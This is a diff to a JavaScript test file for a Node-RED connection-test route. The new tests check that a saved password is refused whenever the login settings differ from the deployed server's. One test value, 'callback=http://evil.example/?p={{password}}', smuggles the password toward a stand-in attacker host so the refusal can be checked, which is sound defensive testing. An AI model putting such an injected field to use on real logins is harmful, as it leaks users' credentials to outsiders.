@@ -109,12 +109,36 @@ describe('Test connection with automatic login (admin route, real Node-RED, emul
     report.message.should.match(/login\.password: is required/);
   });
 
-  it('the deployed server, its login changed in the dialog, the saved password: logs in with the typed settings', async function () {
+  /** The deployed server's dialog as the editor sends it: form preset, the saved password, one setting changed. */
+  function deployedServer(extra = {}) {
+    return { id: DEPLOYED, baseUrl: emulator.url, timeout: '5', loginEnabled: true, loginPreset: 'form', username: 'robot', password: SAVED_PASSWORD, ...extra };
+  }
+
+  it('the deployed server with its timeout changed and the saved password: logs in as the deployed node does', async function () {
     const before = emulator.sessionStats().logins;
-    const report = await connectionTest(newServer({ id: DEPLOYED, password: SAVED_PASSWORD }));
+    const report = await connectionTest(deployedServer());
     report.result.should.equal('ok', report.message);
     report.message.should.match(/^login worked/);
     emulator.sessionStats().logins.should.equal(before + 1);
+  });
+
+  it('the saved password in a login that differs from the deployed one in any way: refused, nothing sent', async function () {
+    const other = `http://127.0.0.1:${elsewhere.address().port}`;
+    const before = emulator.sessionStats().logins;
+    const changes = [
+      { loginSessionUrl: `${other}/review/` }, // the session page elsewhere (its cookies go with the login)
+      { loginPreset: 'utility' }, // another preset: other URL, method, fields
+      { loginUrl: '/review/api/events/assets/subscribe/x' }, // another path on the same server
+      { loginFields: 'callback=http://evil.example/?p={{password}}' }, // the password in another field
+      { username: 'someone-else' } // the saved password tried with another user name
+    ];
+    for (const changed of changes) {
+      const report = await connectionTest(deployedServer(changed));
+      report.should.containEql({ result: 'config', part: 'password' }, JSON.stringify(changed));
+      report.message.should.match(/type the password again/);
+    }
+    emulator.sessionStats().logins.should.equal(before, 'no login made');
+    seenElsewhere.should.eql([]);
   });
 
   it('the saved password towards another base URL, or another login URL: refused, nothing sent there', async function () {
